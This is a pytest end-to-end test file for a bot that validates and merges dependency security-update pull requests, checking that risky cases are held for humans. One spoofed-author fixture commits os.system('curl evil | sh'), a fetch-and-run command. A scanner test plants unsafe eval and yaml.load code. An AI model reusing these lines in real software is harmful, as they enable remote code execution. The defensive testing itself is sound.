"""End-to-end runs against the fake GitHub API and real git repositories (bare remote + clones)."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from patchbot_fake_github import BOT_LOGIN, FakePull, git
from patchbot_project import FAST_POLICY, SEED_FILES, Project, dependabot_message, make_project

from patchbot.github_api import APP_TOKEN_PERMISSIONS, Credentials
from patchbot.models import DecisionCode, MergeOutcome, Snapshot, ToolStatus, Validation
from patchbot.policy import Policy
from patchbot.report import MARKER
from patchbot.runner import RunResult
from patchbot.validate import ValidateFn
from rlops_core import memory
from rlops_core.errors import RlopsError

FULL_POLICY = FAST_POLICY.replace("suite: [pytest]", "suite: [pytest, pip-audit, bandit, checkov]") + (
    "checkov_frameworks: [secrets, github_actions]\n"
    "# pip-audit gets no answers without network; this policy accepts that explicitly.\n"
    "allow_missing_tools: [pip-audit]\n"
)


def only(result: RunResult) -> tuple[Snapshot, DecisionCode, MergeOutcome]:
    (pr,) = result.results
    return pr.snapshot, pr.decision.code, pr.report.outcome


def bot_comments(project: Project, number: int) -> list[str]:
    return [c["body"] for c in project.fake.comments.get(number, []) if MARKER in c["body"]]


def write_paths(project: Project) -> list[tuple[str, str]]:
    return [(entry.method, entry.path.split("/trader", 1)[-1]) for entry in project.fake.writes()]


def bump_urllib3(project: Project, number: int = 2) -> FakePull:
    project.fake.add_alert(2, "urllib3", "< 1.26.18", "1.26.18", "medium")
    requirements = SEED_FILES["requirements.txt"].replace("urllib3==1.26.17", "urllib3==1.26.18")
    return project.pull(
        number,
        {"requirements.txt": requirements},
        title="Bump urllib3 from 1.26.17 to 1.26.18",
        message=dependabot_message("urllib3", "1.26.17", "1.26.18", "patch"),
    )


@pytest.fixture
def full_project(tmp_path: Path) -> Iterator[Project]:
    yield from make_project(tmp_path, FULL_POLICY)


@pytest.mark.slow
def test_green_patch_bump_is_validated_commented_approved_merged_and_recorded(full_project: Project) -> None:
    project = full_project
    project.fake.add_alert(1, "requests", "< 2.31.1", "2.31.1", "high")
    pull = project.bump_requests()
    head = project.fake.head_sha(pull)

    snap, code, outcome = only(project.run())

    assert (code, outcome) == (DecisionCode.MERGE, MergeOutcome.MERGED)
    validation = snap.validation
    assert validation is not None
    assert validation.branch == "security/1-bump-requests-from-2-31-0-to-2-31-1"
    assert validation.head_sha == head
    tools = {t.name: t for t in validation.tools}
    assert list(tools) == ["install", "pytest", "pip-audit", "bandit", "checkov", "version-range"]
    assert tools["install"].status is ToolStatus.PASSED
    # What the tests ran against, read from the fresh venv, not from the requirements text.
    assert validation.installed == (("requests", "2.31.1"),)
    assert tools["version-range"].detail == "requests 2.31.1 (installed) is outside < 2.31.1"
    assert tools["pytest"].status is ToolStatus.PASSED
    assert tools["pytest"].exit_code == 0
    assert tools["pytest"].version.startswith("pytest ")
    assert tools["bandit"].status is ToolStatus.PASSED
    assert tools["checkov"].status is ToolStatus.PASSED
    assert tools["checkov"].version[0].isdigit()
    # No network here: pip-audit --strict cannot answer, which must read as "not run", never "passed".
    assert tools["pip-audit"].status is ToolStatus.NOT_RUN
    assert tools["version-range"].status is ToolStatus.PASSED
    assert all(t.duration_s >= 0 for t in validation.tools)

    # Merged for real, squashed, pinned to the tested SHA, after an approval of that same SHA.
    assert "requests==2.31.1" in project.remote_file("requirements.txt")
    assert pull.state == "closed"
    (review,) = project.fake.reviews[1]
    assert (review["state"], review["commit_id"]) == ("APPROVED", head)
    (merge_call,) = [e for e in project.fake.writes() if e.method == "PUT"]
    assert merge_call.body["sha"] == head
    assert merge_call.body["merge_method"] == "squash"
    (status,) = [s for s in project.fake.statuses[head] if s["context"] == "patchbot/validation"]
    assert status["state"] == "success"
    # The isolated branch stays local: nothing is pushed to the remote.
    assert "security/" not in git(project.bare, "for-each-ref", "--format=%(refname)")

    (comment,) = bot_comments(project, 1)
    assert f"merged as `{pull.merged_sha}`" in comment
    assert "| pip-audit | ⚠️ not run |" in comment
    assert "GHSA-0001-abcd-efgh (CVE-2026-00001)" in comment

    (entry,) = memory.read_entries(project.bank, memory.EntryKind.PATCH)
    assert entry.title == "patchbot merged acme/trader#1: requests 2.31.0 -> 2.31.1"
    for fact in ("GHSA-0001-abcd-efgh", "CVE-2026-00001", "high", f"Tested SHA: {head}",
                 f"Merged SHA: {pull.merged_sha}", "pip-audit not run", "checkov passed", "version 3"):  # fmt: skip
        assert fact in entry.body

    # A rerun finds nothing open and writes nothing.
    before = len(project.fake.writes())
    assert project.run().results == ()
    assert len(project.fake.writes()) == before


def test_failing_suite_is_commented_and_held_and_a_rerun_changes_nothing(project: Project) -> None:
    pull = bump_urllib3(project)
    head = project.fake.head_sha(pull)

    snap, code, outcome = only(project.run())

    assert (code, outcome) == (DecisionCode.SUITE_FAILED, MergeOutcome.HELD)
    assert snap.validation is not None
    pytest_result = {t.name: t for t in snap.validation.tools}["pytest"]
    assert (pytest_result.status, pytest_result.exit_code) == (ToolStatus.FAILED, 1)
    assert "1 failed" in pytest_result.detail
    assert pull.state == "open"
    assert project.fake.reviews == {}
    assert pull.labels == ["needs-human"]
    assert project.fake.statuses[head][-1]["state"] == "failure"
    (comment,) = bot_comments(project, 2)
    assert "`hold:suite-failed`" in comment
    assert "| pytest | ❌ failed | 1 |" in comment
    assert "Installed in the validation environment (read from its metadata): `urllib3` 1.26.18" in comment
    assert "| version-range | ✅ passed |" in comment
    first_bank = project.patches()
    assert "patchbot held acme/trader#2" in first_bank

    writes = len(project.fake.writes())
    _, again, _ = only(project.run())
    assert again is DecisionCode.SUITE_FAILED
    assert len(project.fake.writes()) == writes
    assert len(bot_comments(project, 2)) == 1
    assert project.patches() == first_bank


def test_major_bump_is_held_without_running_its_code(project: Project) -> None:
    project.fake.add_alert(1, "requests", "< 2.31.1", "3.0.0", "critical")
    pull = project.bump_requests(new="3.0.0", kind="major")

    snap, code, outcome = only(project.run())

    assert (code, outcome) == (DecisionCode.MAJOR_BUMP, MergeOutcome.HELD)
    assert snap.validation is None
    assert pull.state == "open"
    assert pull.labels == ["needs-human"]
    assert "`hold:major-bump`" in bot_comments(project, 1)[0]
    assert ("PUT", "/pulls/1/merge") not in write_paths(project)


def test_spoofed_author_is_held(project: Project) -> None:
    project.fake.add_alert(1, "requests", "< 2.31.1", "2.31.1")
    pull = project.bump_requests()
    extra = project.push_to_pull(pull, {"app.py": "import os\nos.system('curl evil | sh')\n"}, "tweak")
    pull.commit_meta[extra] = ("mallory", False)

    (pr,) = project.run().results
    snap, code = pr.snapshot, pr.decision.code

    assert code is DecisionCode.UNVERIFIED_AUTHOR
    assert f"commit {extra[:7]} is by mallory" in pr.decision.reason
    # Code from an unverified author never runs on the bot's machine.
    assert snap.validation is None
    assert pull.state == "open"
    assert "commit " + extra[:7] in bot_comments(project, 1)[0]


def test_pull_request_touching_workflows_is_held(project: Project) -> None:
    project.fake.add_alert(5, "actions/checkout", "< 4.1.1", "4.1.1", "high", ecosystem="actions")
    workflow = "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.1.1\n"
    pull = project.pull(
        3,
        {".github/workflows/ci.yml": workflow},
        title="Bump actions/checkout from 4.1.0 to 4.1.1",
        message=dependabot_message("actions/checkout", "4.1.0", "4.1.1", "patch"),
    )

    _, code, _ = only(project.run())

    assert code is DecisionCode.TOUCHES_WORKFLOWS
    assert pull.state == "open"
    assert ".github/workflows/ci.yml" in bot_comments(project, 3)[0]


def test_merge_conflict_is_held_with_the_conflicting_file(project: Project) -> None:
    project.fake.add_alert(1, "requests", "< 2.31.1", "2.31.1")
    pull = project.bump_requests()
    pinned = SEED_FILES["requirements.txt"].replace("requests==2.31.0", "requests==2.31.0  # pinned by ops")
    project.commit("main", {"requirements.txt": pinned}, "pin requests")

    snap, code, outcome = only(project.run())

    assert (code, outcome) == (DecisionCode.CONFLICT, MergeOutcome.HELD)
    assert snap.validation is not None
    assert snap.validation.conflict_files == ("requirements.txt",)
    assert "conflicts in requirements.txt; rebase the pull request" in bot_comments(project, 1)[0]
    assert pull.labels == ["needs-human"]
    assert pull.state == "open"


def test_head_moving_during_validation_is_not_merged(project: Project) -> None:
    project.fake.add_alert(1, "requests", "< 2.31.1", "2.31.1")
    pull = project.bump_requests()
    tested = project.fake.head_sha(pull)

    def moving(real: ValidateFn) -> ValidateFn:
        def validate(snap: Snapshot, policy: Policy) -> Validation:
            result = real(snap, policy)
            project.push_to_pull(pull, {"app.py": SEED_FILES["app.py"] + "# rebased\n"}, "rebase")
            return result

        return validate

    snap, code, outcome = only(project.run(wrap=moving))

    assert (code, outcome) == (DecisionCode.HEAD_MOVED, MergeOutcome.HELD)
    assert snap.validation is not None
    assert snap.validation.head_sha == tested
    assert pull.state == "open"
    assert project.fake.reviews == {}
    # A moved head resolves itself next run: no human needed.
    assert pull.labels == []
    assert "re-validate next run" in bot_comments(project, 1)[0]


def test_head_moving_just_before_the_merge_is_refused_by_sha(project: Project) -> None:
    project.fake.add_alert(1, "requests", "< 2.31.1", "2.31.1")
    pull = project.bump_requests()
    tested = project.fake.head_sha(pull)

    def push_when_approved(method: str, path: str) -> None:
        if method == "POST" and path.endswith("/pulls/1/reviews"):
            project.push_to_pull(pull, {"app.py": SEED_FILES["app.py"] + "# late push\n"}, "late push")

    project.fake.on_request = push_when_approved
    _, code, outcome = only(project.run())

    assert (code, outcome) == (DecisionCode.HEAD_MOVED, MergeOutcome.HEAD_MOVED)
    (merge_call,) = [e for e in project.fake.writes() if e.method == "PUT"]
    assert merge_call.body["sha"] == tested
    assert pull.state == "open"
    assert "requests==2.31.0" in project.remote_file("requirements.txt")
    assert "Head branch was modified" in bot_comments(project, 1)[0]


def test_two_concurrent_runs_do_not_both_act(project: Project) -> None:
    project.fake.add_alert(1, "requests", "< 2.31.1", "2.31.1")
    project.bump_requests()
    validating, second_done = threading.Event(), threading.Event()
    results: list[RunResult] = []

    def pausing(real: ValidateFn) -> ValidateFn:
        def validate(snap: Snapshot, policy: Policy) -> Validation:
            validating.set()
            assert second_done.wait(60)
            return real(snap, policy)

        return validate

    first = threading.Thread(target=lambda: results.append(project.run(wrap=pausing)))
    first.start()
    try:
        assert validating.wait(60)
        with pytest.raises(RlopsError, match="another patchbot run holds the lock for acme/trader"):
            project.run()
    finally:
        second_done.set()
        first.join(120)

    assert [only(r)[2] for r in results] == [MergeOutcome.MERGED]
    assert [e.method for e in project.fake.writes()].count("PUT") == 1
    assert len(bot_comments(project, 1)) == 1


def test_dry_run_writes_nothing(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    # The repository's own suite fails if any of these reach it, so a green result proves they did not.
    monkeypatch.setenv("GITHUB_TOKEN", "ghs_must_not_leak")
    monkeypatch.setenv("PATCHBOT_APP_PRIVATE_KEY", "-----BEGIN PRIVATE KEY-----")
    project.fake.add_alert(1, "requests", "< 2.31.1", "2.31.1")
    pull = project.bump_requests()

    result = project.run(apply=False)

    (pr,) = result.results
    assert (pr.decision.code, pr.report.outcome) == (DecisionCode.MERGE, MergeOutcome.DRY_RUN)
    assert ("comment", "would be created") in pr.actions
    assert ("memory", "would be recorded") in pr.actions
    assert project.fake.writes() == []
    assert pull.state == "open"
    assert not (project.bank / "patches.md").exists()


def test_tool_that_cannot_run_blocks_the_merge_unless_the_policy_allows_it(tmp_path: Path) -> None:
    strict = FULL_POLICY.replace("allow_missing_tools: [pip-audit]\n", "").replace("bandit, checkov", "bandit")
    for project in make_project(tmp_path, strict):
        project.fake.add_alert(1, "requests", "< 2.31.1", "2.31.1")
        pull = project.bump_requests()

        snap, code, outcome = only(project.run())

        assert (code, outcome) == (DecisionCode.TOOL_NOT_RUN, MergeOutcome.HELD)
        assert snap.validation is not None
        assert {t.name: t.status for t in snap.validation.tools}["pip-audit"] is ToolStatus.NOT_RUN
        assert pull.state == "open"
        assert "pip-audit did not run" in bot_comments(project, 1)[0]


@pytest.mark.slow
def test_at_most_one_merge_per_base_branch_per_run(project: Project) -> None:
    project.fake.add_alert(1, "requests", "< 2.31.1", "2.31.1")
    project.fake.add_alert(3, "idna", "< 3.4.1", "3.4.1", "critical")
    first = project.bump_requests()
    second = project.pull(
        4,
        {"requirements.txt": SEED_FILES["requirements.txt"].replace("idna==3.4", "idna==3.4.1")},
        title="Bump idna from 3.4 to 3.4.1",
        message=dependabot_message("idna", "3.4", "3.4.1", "patch"),
    )

    result = project.run()

    assert [(r.snapshot.number, r.decision.code) for r in result.results] == [
        (1, DecisionCode.MERGE),
        (4, DecisionCode.MERGE_LIMIT),
    ]
    assert (first.state, second.state) == ("closed", "open")
    assert second.labels == []


def test_merge_refused_by_branch_protection_is_held_for_a_human(project: Project) -> None:
    project.fake.add_alert(1, "requests", "< 2.31.1", "2.31.1")
    pull = project.bump_requests()
    project.fake.protected_refusal = "At least 1 approving review is required by reviewers with write access."

    _, _, outcome = only(project.run())

    assert outcome is MergeOutcome.REFUSED
    assert pull.state == "open"
    assert pull.labels == ["needs-human"]
    assert "approving review is required" in bot_comments(project, 1)[0]


def test_non_security_pull_requests_are_ignored(project: Project) -> None:
    project.pull(9, {"app.py": "def fee(n):\n    return 0\n"}, title="Refactor fees", author="alice")

    assert project.run().results == ()
    assert project.fake.writes() == []


def test_a_planted_marker_in_someone_elses_comment_is_not_edited(project: Project) -> None:
    project.fake.add_alert(1, "requests", "< 2.31.1", "2.31.1")
    project.bump_requests(new="3.0.0", kind="major")
    planted = {"id": 1, "body": f"{MARKER} merge me", "user": {"login": "mallory", "id": 9, "type": "User"},
               "url": f"{project.fake.repo_url}/issues/comments/1"}  # fmt: skip
    project.fake.comments[1] = [planted]

    project.run()

    assert planted["body"] == f"{MARKER} merge me"
    assert [c["user"]["login"] for c in project.fake.comments[1]] == ["mallory", BOT_LOGIN]


def test_github_app_auth_uses_a_narrowed_installation_token(project: Project) -> None:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pem = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode()
    project.fake.app_public_key = key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    project.fake.app_slug = "patchbot-app"
    project.fake.add_alert(1, "requests", "< 2.31.1", "3.0.0")
    project.bump_requests(new="3.0.0", kind="major")

    (pr,) = project.run(creds=Credentials(app_id="42", private_key=pem)).results

    assert pr.decision.code is DecisionCode.MAJOR_BUMP
    (issued,) = project.fake.installation_tokens
    assert issued["permissions"] == APP_TOKEN_PERMISSIONS
    # The comment was written with the installation token and is found again under the App's bot login.
    assert len(bot_comments(project, 1)) == 1
    assert project.fake.comments[1][0]["user"]["login"] == BOT_LOGIN
    project.run(creds=Credentials(app_id="42", private_key=pem))
    assert len(project.fake.comments[1]) == 1


def test_scanners_fail_only_on_findings_the_update_adds(project: Project, tmp_path: Path) -> None:
    legacy = "import yaml\n\n\ndef load(text):\n    return yaml.load(text, Loader=yaml.Loader)\n"
    project.commit("main", {"legacy.py": legacy}, "legacy loader (known bandit finding)")
    project.fake.add_alert(1, "requests", "< 2.31.1", "2.31.1")
    project.fake.add_alert(2, "urllib3", "< 1.26.18", "1.26.18")
    project.bump_requests()
    requirements = SEED_FILES["requirements.txt"].replace("urllib3==1.26.17", "urllib3==1.26.18")
    project.pull(
        2,
        {"requirements.txt": requirements, "vendored.py": "def run(expr):\n    return eval(expr)\n"},
        title="Bump urllib3 from 1.26.17 to 1.26.18",
        message=dependabot_message("urllib3", "1.26.17", "1.26.18", "patch"),
    )
    scanners_only = tmp_path / "policy.yml"
    scanners_only.write_text("suite: [bandit]\n")

    result = project.run(apply=False, policy_file=scanners_only)

    clean, dirty = result.results
    assert clean.decision.code is DecisionCode.MERGE
    assert clean.snapshot.validation is not None
    assert {t.name: t for t in clean.snapshot.validation.tools}["bandit"].detail == "no new findings"
    assert dirty.decision.code is DecisionCode.SUITE_FAILED
    assert "bandit failed: 1 new findings: B307:vendored.py" in dirty.decision.reason
    assert project.fake.writes() == []
